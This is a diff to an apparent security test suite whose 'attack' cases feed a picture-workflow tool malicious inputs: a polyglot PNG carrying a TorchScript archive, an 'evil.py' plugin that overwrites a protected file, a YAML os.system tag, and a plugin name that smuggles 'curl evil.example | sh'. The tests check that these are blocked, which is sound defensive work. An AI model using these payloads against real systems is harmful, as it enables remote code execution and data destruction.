@@ -35,7 +35,7 @@ def loads_script(path: str, params: str = "", link: str = "") -> str:
 def polyglot(arena: Arena) -> Outcome:
     picture = recipe_picture(arena.folder / "holiday.png", loads_script("holiday.png"))
     with picture.open("ab") as file:
-        file.write(torchscript_archive(arena.protected))
+        file.write(torchscript_archive(arena.protected_file))
     return arena.run("run", picture, "--out", "out")
 
 
@@ -73,13 +73,13 @@ def torchscript_archive(target: Path) -> bytes:
 
 @attack("a picture that loads TorchScript although reading it is allowed", "forbidden-code")
 def code_through_read(arena: Arena) -> Outcome:
-    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected))
+    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
     return run_picture(arena, loads_script("net.pt"), "--allow-read", "net.pt")
 
 
 @attack("a picture that loads TorchScript from a parameter that the person sets", "forbidden-code")
 def code_through_set(arena: Arena) -> Outcome:
-    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected))
+    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
     text = loads_script("", "params: {net: {type: Path, default: x.pt}}\n", "in: {path: params.net}, ")
     return run_picture(arena, text, "--set", "net=net.pt")
 
@@ -234,19 +234,19 @@ def settings_of_other_types(arena: Arena) -> Outcome:
 
 @attack("a picture whose workflow asks for a plugin to be imported", "missing-plugin")
 def requires_plugin(arena: Arena) -> Outcome:
-    (arena.folder / "evil.py").write_text(f"open({str(arena.protected)!r}, 'w').write('gone')\n")
+    (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
     return run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {evil: ">=0"}\n'))
 
 
 @attack("a picture whose workflow uses a node of a module beside it", "unknown-node")
 def uses_module(arena: Arena) -> Outcome:
-    (arena.folder / "evil.py").write_text(f"open({str(arena.protected)!r}, 'w').write('gone')\n")
+    (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
     return run_picture(arena, PLAIN.replace("noise.gaussian", "evil.node"))
 
 
 @attack("a picture with a YAML tag that makes a Python object", "yaml")
 def yaml_tag(arena: Arena) -> Outcome:
-    tag = f"!!python/object/apply:os.system ['echo gone > {arena.protected}']"
+    tag = f"!!python/object/apply:os.system ['echo gone > {arena.protected_file}']"
     return run_picture(arena, PLAIN.replace("[1, 3, 4, 4]", tag))
 
 
@@ -280,7 +280,7 @@ def path_for_the_shell(arena: Arena) -> Outcome:
     return outcome
 
 
-@attack("a picture that requires a plugin whose name is a command to the shell", "no name of one")
+@attack("a picture that requires a plugin whose name is a command to the shell", "its name is not valid")
 def plugin_for_the_shell(arena: Arena) -> Outcome:
     outcome = run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {"x; curl evil.example | sh": ">=1"}\n'))
     assert "pip install" not in outcome.err
